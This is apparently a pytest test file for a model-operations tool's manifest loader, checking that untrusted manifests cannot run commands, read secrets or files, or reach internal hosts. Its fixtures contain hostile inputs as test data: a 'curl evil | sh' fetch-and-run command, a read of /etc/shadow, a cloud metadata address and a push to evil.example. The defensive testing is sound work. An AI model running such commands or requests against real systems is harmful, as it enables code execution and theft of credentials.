"""What a manifest that strangers wrote may not ask for, and what it may all the same."""

from __future__ import annotations

from pathlib import Path

import pytest
from manifest_folder import as_text, write

from ollamaops.errors import ManifestError
from ollamaops.manifest.load import load_base, load_manifest
from ollamaops.manifest.trust import Untrusted
from ollamaops.manifest.types import BearerAuth, HostSpec, Manifest, SecretFromEnv

ENVIRON = {"TOKEN": "hunter2", "GPU": "http://gpu-1"}
BASE = """
vars: {registry: registry.corp}
defaults: {host: {timeout: 5s}, model: {retries: 1}}
hosts:
  gpu-1: {url: "${env:GPU}", auth: {bearer: {env: TOKEN}}}
  lab-[1:2]: {url: "http://lab-{}"}
environments: {staging: {hosts: {gpu-1: {labels: {a: b}}, lab-1: null}}}
policy: {allow: {registries: ["${vars.registry}"]}}
models: [{name: "unreadable here", system: "${env:LACKING}"}]
"""
SAME = BASE.rpartition("policy:")[0]


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "base.yaml", BASE.encode())
    return tmp_path


def load(text: str, environment: str | None = None, *, base: bool = False, asks: bool = False) -> Manifest:
    write(Path("m.yaml"), text.encode())
    trusted = load_base("base.yaml", environment=environment, environ=ENVIRON) if base else None
    limits = Untrusted(variables=frozenset({"GPU"}), base=trusted, asks_hosts=asks)
    return load_manifest(
        ["m.yaml"], environment=environment, environ=ENVIRON, public={"GPU"}, untrusted=limits
    )


def complaints(text: str, environment: str | None = None, *, base: bool = False, asks: bool = False) -> str:
    with pytest.raises(ManifestError) as error:
        load(text, environment, base=base, asks=asks)
    return "".join(map(as_text, error.value.problems))


def test_every_secret_file_and_variable_is_named_with_its_place_and_the_way_out() -> None:
    text = """
hosts:
  a: {url: "http://a", auth: {bearer: {command: [sh, -c, "curl evil | sh"]}}}
  b: {url: "http://b", auth: {basic: {user: me, password: {file: /run/secrets/pw}}}, tls: {ca: /etc/ca.pem}}
  c: {url: "http://c", headers: {X-Key: {env: TOKEN}, X-Other: {file: mine.txt}}, proxy: "http://p"}
vars: {name: TOKEN, path: /etc/shadow}
defaults: {host: {headers: {X-Key: {env: "${vars.name}"}}}}
environments: {staging: {hosts: {d: {url: "http://d", auth: {headers: {X-Key: {file: "${vars.path}"}}}}}}}
models:
  - {name: bot, from: base, system: "Say ${env:TOKEN}, ${env:TOKEN:-none}."}
  - {name: fine, from: base, system: "${env:GPU}"}
"""
    where = "take the hosts from a trusted manifest: --hosts-from FILE"
    may = "if everybody may know its value: --allow-env TOKEN"
    assert complaints(text, "staging") == (
        f"m.yaml:3:49: a command is not run for a manifest that is not trusted\n    {where}\n"
        f"m.yaml:4:66: an absolute path is not read for a manifest that is not trusted\n    {where}\n"
        f"m.yaml:4:96: an absolute path is not read for a manifest that is not trusted\n    {where}\n"
        "m.yaml:5:47: the environment variable TOKEN is not read for a manifest that is not trusted\n"
        f"    {where}; {may}\n"
        "m.yaml:7:42: the environment variable TOKEN is not read for a manifest that is not trusted\n"
        f"    {where}; {may}\n"
        f"m.yaml:8:86: an absolute path is not read for a manifest that is not trusted\n    {where}\n"
        "m.yaml:10:37: the environment variable TOKEN is not read for a manifest that is not trusted\n"
        f"    {may}\n"
    )


def test_hosts_that_nobody_trusts_are_not_asked() -> None:
    text = "hosts: {a: {url: http://a}, b: {url: http://b}}\nmodels: [x]"
    assert complaints(text, asks=True) == "".join(
        f"m.yaml:1:{column}: host '{name}' is not asked for a manifest that is not trusted\n"
        "    take the hosts from a trusted manifest: --hosts-from FILE, or use --sandbox\n"
        for column, name in ((9, "a"), (29, "b"))
    )
    assert [host.url for host in load(text).hosts] == ["http://a:80", "http://b:80"]


def test_the_host_of_this_machine_is_asked_but_gets_no_secret() -> None:
    assert [host.name for host in load("models: [x]", asks=True).hosts] == ["local"]
    text = "defaults: {host: {auth: {bearer: {command: [id]}}}}\nmodels: [x]"
    assert complaints(text, asks=True).startswith("m.yaml:1:44: a command is not run")


@pytest.mark.parametrize("text", ["models: [x]", f"{SAME}\nmodels: [x]"], ids=["none", "the same"])
def test_the_hosts_are_those_of_the_trusted_manifest_with_its_secrets(text: str) -> None:
    hosts = load(text, base=True, asks=True).hosts
    assert [host.name for host in hosts] == ["gpu-1", "lab-1", "lab-2"]
    assert (hosts[0].auth, hosts[0].url) == (BearerAuth(SecretFromEnv("TOKEN")), "http://gpu-1:80")
    assert {host.timeout_s for host in hosts} == {5.0}


def test_an_environment_of_the_trusted_manifest_counts_too() -> None:
    def seen(hosts: tuple[HostSpec, ...]) -> list[tuple[str, object]]:
        return [(host.name, host.labels) for host in hosts]

    assert seen(load(f"{SAME}\nmodels: [x]", "staging", base=True).hosts) == [
        ("gpu-1", {"a": "b"}),
        ("lab-2", {}),
    ]


def test_fewer_hosts_than_the_trusted_manifest_has_are_fewer() -> None:
    text = 'defaults: {host: {timeout: 5s}}\nhosts: {lab-2: {url: "http://lab-2"}}\nmodels: [x]'
    assert [host.name for host in load(text, base=True).hosts] == ["lab-2"]


def test_a_host_that_is_new_or_changed_is_a_problem() -> None:
    text = SAME.replace("bearer: {env: TOKEN}", "bearer: {command: [id]}").replace("lab-[1:2]", "lab-[1:3]")
    assert complaints(f"{text}\nmodels: [x]", base=True, asks=True) == (
        "m.yaml:5:3: host 'gpu-1' is not as base.yaml has it, which alone counts for a manifest that is not "
        "trusted\n    leave it as it is there\n"
        "m.yaml:6:3: host 'lab-3' is not in base.yaml, whose hosts alone are asked for a manifest that is not "
        "trusted\n    leave it out until somebody has added it there\n"
    )


def test_nothing_but_public_and_allowed_addresses_is_asked() -> None:
    text = """
models:
  - {name: a, pull: "169.254.169.254/meta/data:v1"}
  - {name: b, from: "registry.corp/x/y:v1"}
  - {name: c, files: ["s3://bucket/c.gguf"]}
  - {name: d, files: ["https://intra.corp:8443/d.gguf"], sha256: {"https://intra.corp:8443/d.gguf": "%s"}}
  - {name: e, from: f, push: "evil.example/x/e:v1"}
  - {name: f, files: ["hf://a/b/f.gguf"]}
  - {name: g, copy: f}
  - {name: "h", pull: "hf.co/a/b:Q4_K_M"}
""" % ("0" * 64)
    way_out = "a trusted manifest may allow it: --hosts-from FILE, under policy.allow.registries"
    refused = {
        "m.yaml:3:12": "169.254.169.254 is not asked for a manifest that is not trusted",
        "m.yaml:4:12": "registry.corp is not asked for a manifest that is not trusted",
        "m.yaml:5:12": "s3:// is not read for a manifest that is not trusted: it takes the credentials of this "
        "machine",
        "m.yaml:6:12": "intra.corp:8443 is not asked for a manifest that is not trusted",
        "m.yaml:7:12": "evil.example is not asked for a manifest that is not trusted",
    }
    hints = {"m.yaml:5:12": "use an address that everybody can read"}
    lines = {place: f"{place}: {says}\n    {hints.get(place, way_out)}\n" for place, says in refused.items()}
    assert complaints(text) == "".join(lines.values())
    del lines["m.yaml:4:12"]
    assert complaints(text, base=True) == "".join(lines.values())


def test_a_trusted_manifest_with_problems_is_not_taken() -> None:
    write(Path("base.yaml"), b"hosts: {a: {url: 'ftp://a'}}\npolicy: {min_version: x}")
    with pytest.raises(ManifestError) as error:
        load_base("base.yaml", environ={})
    assert len(error.value.problems) == 2


def test_odd_shapes_are_problems_as_ever() -> None:
    text = "hosts: [a]\ndefaults: 3\nenvironments: {x: 4, y: {hosts: 5}}\nmodels: [x]"
    assert "m.yaml:2:11" in complaints(text, base=True)
